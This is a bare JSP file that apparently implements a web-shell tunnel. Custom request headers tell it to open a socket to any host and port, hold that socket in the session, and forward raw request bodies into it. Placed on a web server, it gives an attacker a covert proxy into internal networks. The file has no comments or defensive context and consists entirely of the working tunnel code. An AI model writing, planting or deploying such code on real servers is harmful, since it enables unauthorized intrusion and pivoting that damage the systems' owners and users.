<%@ page import="java.nio.channels.*,java.net.*" %>
<%
String v = request.getHeader("X-V");
if ("CONNECT".equals(v)) {
    SocketChannel ch = SocketChannel.open();
    ch.connect(new InetSocketAddress(request.getHeader("X-H"), Integer.parseInt(request.getHeader("X-P"))));
    session.setAttribute("c", ch);
} else if ("FORWARD".equals(v)) {
    byte[] b = request.getInputStream().readAllBytes();
    ((SocketChannel) session.getAttribute("c")).write(java.nio.ByteBuffer.wrap(b));
}
%>
